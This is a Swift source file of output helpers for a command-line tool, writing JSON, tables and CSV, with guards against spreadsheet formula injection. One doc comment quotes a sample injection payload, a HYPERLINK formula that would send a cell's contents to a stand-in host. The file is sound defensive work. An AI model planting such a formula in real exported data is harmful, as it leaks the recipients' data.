import Foundation

/// Writes command output: data to stdout, diagnostics to stderr.
enum Output {
    static func json(_ value: some Encodable) throws {
        let encoder = JSONEncoder()
        encoder.outputFormatting = [.prettyPrinted, .sortedKeys, .withoutEscapingSlashes]
        let data = try encoder.encode(value)
        FileHandle.standardOutput.write(data)
        FileHandle.standardOutput.write(Data("\n".utf8))
    }

    static func jsonString(_ value: some Encodable) throws -> String {
        let encoder = JSONEncoder()
        encoder.outputFormatting = [.prettyPrinted, .sortedKeys, .withoutEscapingSlashes]
        return String(decoding: try encoder.encode(value), as: UTF8.self) + "\n"
    }

    static func write(_ text: String) {
        FileHandle.standardOutput.write(Data(text.utf8))
    }

    static func todayString() -> String {
        let formatter = ISO8601DateFormatter()
        formatter.formatOptions = [.withFullDate]
        return formatter.string(from: Date())
    }

    static func line(_ text: String = "") {
        FileHandle.standardOutput.write(Data((text + "\n").utf8))
    }

    static func warn(_ text: String) {
        FileHandle.standardError.write(Data((text + "\n").utf8))
    }

    /// RFC 4180 CSV: every field quoted when it holds a comma, quote or line
    /// break, and neutralised when a spreadsheet would read it as a formula.
    static func csv(header: [String], rows: [[String]]) {
        var text = ""
        for row in [header] + rows {
            text += row.map(csvField).joined(separator: ",") + "\r\n"
        }
        FileHandle.standardOutput.write(Data(text.utf8))
    }

    /// One CSV cell, for every CSV casetrack writes (lists and `export`):
    /// neutralised against formulas (``formulaSafe(_:)``), then quoted when
    /// it holds a comma, quote or line break.
    static func csvField(_ field: String) -> String {
        let field = formulaSafe(field)
        guard field.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" }) else { return field }
        return "\"" + field.replacingOccurrences(of: "\"", with: "\"\"") + "\""
    }

    /// A cell a spreadsheet would run as a formula (one beginning with `=`,
    /// `+`, `-`, `@`, a tab or a carriage return, as in
    /// `=HYPERLINK("http://example.org/?"&A1)` typed into a name) gets a
    /// single quote in front, as OWASP's CSV-injection guidance says, so
    /// it shows as the text it is. A plain number (`-3`, `-0.5`) is left
    /// as it is: it cannot be a formula.
    static func formulaSafe(_ field: String) -> String {
        guard let first = field.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { return field }
        if first == "-", field.count > 1, field.dropFirst().allSatisfy({ $0.isASCII && ($0.isNumber || $0 == ".") }),
           field.filter({ $0 == "." }).count <= 1, field.dropFirst().first?.isNumber == true {
            return field
        }
        return "'" + field
    }

    /// Columns padded to their widest cell.
    static func table(header: [String], rows: [[String]]) {
        let widths = header.indices.map { column in
            ([header] + rows).map { $0[column].count }.max() ?? 0
        }
        for row in [header] + rows {
            let cells = row.enumerated().map { index, cell in
                index == row.count - 1 ? cell : cell.padding(toLength: widths[index], withPad: " ", startingAt: 0)
            }
            line(cells.joined(separator: "  "))
        }
    }
}
